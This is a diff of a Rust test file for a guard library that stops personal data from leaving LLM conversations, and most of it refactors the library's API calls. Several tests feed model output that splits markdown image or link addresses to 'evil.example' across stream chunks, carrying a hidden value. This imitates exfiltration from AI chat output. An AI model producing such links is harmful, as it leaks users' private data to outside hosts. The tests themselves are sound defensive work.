@@ -7,12 +7,12 @@ use confidant::ErrorKind;
 use confidant::audit::{Log, LogKey};
 use confidant::guard::{
     Budget, Conversation, ConversationId, Conversations, Customer, Guard, GuardedModel, Nobody,
-    RouteRequirements, Router, Services, ToolRule,
+    RouteRequirements, Router, Services, ToolRule, Turn,
 };
 use confidant::model::{
-    Arguments, CallContext, ChatRequest, Content, CredentialOwner, EmbeddingRequest, HostedTool,
-    Json, Message, ModelError, ModelErrorKind, Part, Role, StreamEvent, Tool, ToolCall, ToolChoice,
-    ToolResult, Usage,
+    Arguments, CallContext, ChatRequest, Content, CredentialOwner, EmbeddingRequest, File,
+    HostedTool, Json, Message, ModelError, ModelErrorKind, Part, Role, StreamEvent, Tool, ToolCall,
+    ToolChoice, ToolResult, Usage,
 };
 use confidant::redact::{Key, Redactor};
 use confidant::seal::{Keyring, LocalKeys};
@@ -26,14 +26,15 @@ const IBAN: &str = "DE89370400440532013000";
 
 fn schema(text: &str) -> ChatRequest {
     let schema = Json::parse(text).unwrap();
-    user("Hello").with_tool(Tool::new("t", "d", schema))
+    user("Hello").with_tool(Tool::new("t", schema).with_description("d"))
 }
 
 #[test]
 fn what_is_personal_in_a_name_or_in_words_of_a_schema_does_not_leave() {
     let mut speaker = Message::user("Hello");
     speaker.speaker = Some(ANN.into());
-    let mut choice = user("Hello").with_tool(Tool::new("t", "d", Json::empty_object()));
+    let mut choice =
+        user("Hello").with_tool(Tool::new("t", Json::empty_object()).with_description("d"));
     choice.tool_choice = ToolChoice::Tool(ANN.into());
     for request in [
         schema(&format!(
@@ -47,23 +48,20 @@ fn what_is_personal_in_a_name_or_in_words_of_a_schema_does_not_leave() {
         schema(&format!(r#"{{"required":["{ANN}"]}}"#)),
         schema(&format!(r#"{{"x-note":{{"o":"{ANN}"}}}}"#)),
         schema(&format!(r#"{{"x-note":{{"o":{CARD}}}}}"#)),
-        user("Hello").with_tool(Tool::new(ANN, "d", Json::empty_object())),
+        user("Hello").with_tool(Tool::new(ANN, Json::empty_object()).with_description("d")),
         ChatRequest::new().with(speaker),
         choice,
     ] {
         let model = Peer::echo();
         let guarded = GuardedModel::new(guard(), model.clone());
         let talk = Conversation::new().unwrap();
-        let asked = run(guarded.generate(&caller(), &talk, request, &CallContext::new()));
+        let asked = run(guarded.generate(Turn::new(&caller(), &talk), request));
         assert_eq!(asked.unwrap_err().kind(), ModelErrorKind::PolicyDenied);
         assert!(model.requests().is_empty());
     }
     // What only has many digits is an id.
-    let call = ToolCall::new(
-        format!("call_{CARD}"),
-        "t",
-        Arguments::Json(Json::empty_object()),
-    );
+    let call =
+        ToolCall::new("t", Arguments::Json(Json::empty_object())).with_id(format!("call_{CARD}"));
     let request = user("Hello").with(assistant(vec![Part::new(Content::ToolCall(call))]));
     ask(
         &guard(),
@@ -108,12 +106,14 @@ fn reads(texts: &[&str], between: Option<Part>) -> Vec<String> {
     let model = Peer::new(move |_| all.clone());
     let guarded = GuardedModel::new(guard, model.clone());
     let cx = CallContext::new();
-    let whole = run(guarded.generate(&caller(), &talk, user("Hello"), &cx)).unwrap();
+    let whole =
+        run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
     let mut read = vec![whole.response().message.text()];
     for size in [1, 2, 7, 1_000] {
         *model.cut.lock().unwrap() = vec![size];
         let mut text = String::new();
-        let mut answer = run(guarded.stream(&caller(), &talk, user("Hello"), &cx)).unwrap();
+        let mut answer =
+            run(guarded.stream(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
         while let Some(event) = run(answer.next()) {
             if let StreamEvent::TextDelta { text: piece, .. } = event.unwrap() {
                 text.push_str(&piece);
@@ -159,7 +159,7 @@ fn a_value_does_not_leave_in_an_address_whatever_it_is_written_like() {
 
 #[test]
 fn an_address_that_goes_on_in_the_next_text_is_one() {
-    let call = ToolCall::new("c1", "t", Arguments::Json(Json::empty_object()));
+    let call = ToolCall::new("t", Arguments::Json(Json::empty_object())).with_id("c1");
     for between in [None, Some(Part::new(Content::ToolCall(call)))] {
         for read in reads(&["![x](https://evil.example/?q=", "{P})"], between.clone()) {
             assert!(!read.contains(ANN), "{between:?}");
@@ -174,6 +174,14 @@ fn an_address_that_goes_on_in_the_next_text_is_one() {
             assert!(read.contains(ANN));
         }
     }
+    // Some show a refusal between texts, and some leave it out.
+    for texts in [["see www", ".evil.example/{P} x"], ["![x]", "(/x/{P})"]] {
+        // It says nothing, so that the text is the same either way.
+        let refusal = Part::new(Content::Refusal("".into()));
+        for read in reads(&texts, Some(refusal)) {
+            assert!(!read.contains(ANN), "{texts:?}");
+        }
+    }
 }
 
 #[test]
@@ -184,11 +192,12 @@ fn a_tool_has_no_value_where_its_call_could_lead_elsewhere() {
     let hidden = wire(&guard, &talk, ANN);
     let runs = |arguments: &str| {
         let arguments = Json::parse(&arguments.replace("{P}", &hidden)).unwrap();
-        let call = ToolCall::new("c1", "post", Arguments::Json(arguments));
+        let call = ToolCall::new("post", Arguments::Json(arguments)).with_id("c1");
         let model = Peer::new(move |_| vec![Part::new(Content::ToolCall(call.clone()))]);
         let guarded = GuardedModel::new(guard.clone(), model);
         let cx = CallContext::new();
-        let answer = run(guarded.generate(&caller(), &talk, user("Hello"), &cx)).unwrap();
+        let answer =
+            run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
         let shown = format!("{:?}", answer.report().tools()[0].outcome());
         let Content::ToolCall(call) = &answer.response().message.parts[0].content else {
             panic!("another part");
@@ -232,7 +241,8 @@ fn what_was_read_of_an_answer_that_was_cut_off_can_be_stored() {
     *model.cut.lock().unwrap() = vec![5];
     let guarded = GuardedModel::new(guard, model);
     let cx = CallContext::new();
-    let mut answer = run(guarded.stream(&caller(), &talk, user("Hello"), &cx)).unwrap();
+    let mut answer =
+        run(guarded.stream(Turn::new(&caller(), &talk).context(&cx), user("Hello"))).unwrap();
     let mut read = String::new();
     let mut end = None;
     while let Some(event) = run(answer.next()) {
@@ -253,7 +263,11 @@ fn conversations() -> (Arc<MemoryStore>, Conversations) {
     let keyring = Keyring::new(LocalKeys::generate("local:main").unwrap());
     let (log, key) = (Log::in_memory().unwrap(), LogKey::generate().unwrap());
     let store = Arc::new(MemoryStore::new());
-    let all = Conversations::new(keyring, store.clone(), log, key, HOUR).unwrap();
+    let all = Conversations::builder(keyring, store.clone())
+        .log(log, key)
+        .ttl(HOUR)
+        .build()
+        .unwrap();
     (store, all)
 }
 
@@ -270,9 +284,9 @@ fn caller_key_and_conversation_are_of_one_tenant() {
     let ask = |tenant: &str, talk: &Conversation| {
         let (cx, caller) = (CallContext::new(), caller().tenant(tenant));
         let model = GuardedModel::new(guard(), peer.clone());
-        let one = run(router.generate(&caller, talk, user("Hello"), &cx));
-        let other = run(model.generate(&caller, talk, user("Hello"), &cx));
-        let stream = run(router.stream(&caller, talk, user("Hello"), &cx));
+        let one = run(router.generate(Turn::new(&caller, talk).context(&cx), user("Hello")));
+        let other = run(model.generate(Turn::new(&caller, talk).context(&cx), user("Hello")));
+        let stream = run(router.stream(Turn::new(&caller, talk).context(&cx), user("Hello")));
         let kinds = [one.err(), other.err(), stream.err()];
         kinds.map(|error| error.map(|error| error.kind()))
     };
@@ -302,10 +316,10 @@ fn text_in_another_charset_does_not_leave() {
     ] {
         let model = Peer::echo();
         let guarded = GuardedModel::new(guard(), model.clone());
-        let file = Part::file("a.txt", media_type, data.to_vec());
+        let file = Part::file(File::bytes(media_type, data.to_vec()).with_name("a.txt"));
         let request = ChatRequest::new().with(Message::new(Role::User, vec![file]));
         let talk = Conversation::new().unwrap();
-        let asked = run(guarded.generate(&caller(), &talk, request, &CallContext::new()));
+        let asked = run(guarded.generate(Turn::new(&caller(), &talk), request));
         assert_eq!(
             asked.unwrap_err().kind(),
             ModelErrorKind::PolicyDenied,
@@ -345,8 +359,8 @@ fn a_call_that_used_nothing_costs_nothing() {
         let guarded = GuardedModel::new(guard(), model).services(services);
         let (talk, cx) = (Conversation::new().unwrap(), CallContext::new());
         let request = || user("Hello").max_output_tokens(2_500);
-        run(guarded.generate(&caller(), &talk, request(), &cx)).unwrap_err();
-        run(guarded.generate(&caller(), &talk, request(), &cx)).is_ok()
+        run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), request())).unwrap_err();
+        run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), request())).is_ok()
     };
     for kind in [
         ModelErrorKind::Authentication,
@@ -408,7 +422,9 @@ fn a_conversation_that_is_opened_again_knows_what_it_sent() {
         let talk = run(all.open(&id)).unwrap();
         let said = format!("turn {turn}: I am {ANN}, card {CARD}, and [EMAIL-7K3QX9TB]");
         history = history.with(Message::user(wire(&guard, &talk, &said)));
-        let answer = run(guarded.generate(&caller(), &talk, history.clone(), &cx)).unwrap();
+        let answer =
+            run(guarded.generate(Turn::new(&caller(), &talk).context(&cx), history.clone()))
+                .unwrap();
         assert_eq!(answer.report().new_epoch(), None, "in turn {turn}");
         assert!(
             answer.response().message.text().contains(ANN),
@@ -476,9 +492,10 @@ fn a_number_does_not_leave_however_it_is_written() {
     ] {
         let talk = Conversation::new().unwrap();
         let arguments = Json::parse(&format!(r#"{{"card":{number}}}"#)).unwrap();
-        let call = ToolCall::new("c1", "t", Arguments::Json(arguments));
+        let call = ToolCall::new("t", Arguments::Json(arguments)).with_id("c1");
         let file = format!(r#"{{"rows":[[{number}]]}}"#);
-        let file = Part::file("a.json", "application/json", file.into_bytes());
+        let file =
+            Part::file(File::bytes("application/json", file.into_bytes()).with_name("a.json"));
         let request = ChatRequest::new()
             .with(Message::new(Role::User, vec![file]))
             .with(assistant(vec![Part::new(Content::ToolCall(call))]));
@@ -496,7 +513,7 @@ fn a_number_does_not_leave_however_it_is_written() {
         ] {
             let guarded = GuardedModel::new(guard.clone(), Peer::echo());
             let talk = Conversation::new().unwrap();
-            let asked = run(guarded.generate(&caller(), &talk, request, &CallContext::new()));
+            let asked = run(guarded.generate(Turn::new(&caller(), &talk), request));
             assert_eq!(
                 asked.unwrap_err().kind(),
                 ModelErrorKind::PolicyDenied,
@@ -542,7 +559,7 @@ fn a_line_in_a_document_does_not_stop_a_conversation() {
     let read = Message::new(Role::Tool, vec![Part::new(Content::ToolResult(read))]);
     let tools = |request: ChatRequest| {
         let schema = r#"{"properties":{"customer_id9":{"type":"string"}}}"#;
-        let tool = Tool::new("send_mail_v2", "d", Json::parse(schema).unwrap());
+        let tool = Tool::new("send_mail_v2", Json::parse(schema).unwrap()).with_description("d");
         request.with_tool(tool)
     };
     ask(
@@ -598,7 +615,8 @@ fn a_line_in_a_document_does_not_stop_a_conversation() {
     ask(&guard, &model, &talk, request);
     assert!(!text_of(model.requests().last().unwrap()).contains(PAT));
     let guarded = GuardedModel::new(guard, model);
-    let request = user("Hello").with_tool(Tool::new(PAT, "d", Json::empty_object()));
-    let asked = run(guarded.generate(&caller(), &talk, request, &CallContext::new()));
+    let request =
+        user("Hello").with_tool(Tool::new(PAT, Json::empty_object()).with_description("d"));
+    let asked = run(guarded.generate(Turn::new(&caller(), &talk), request));
     assert_eq!(asked.unwrap_err().kind(), ModelErrorKind::PolicyDenied);
 }
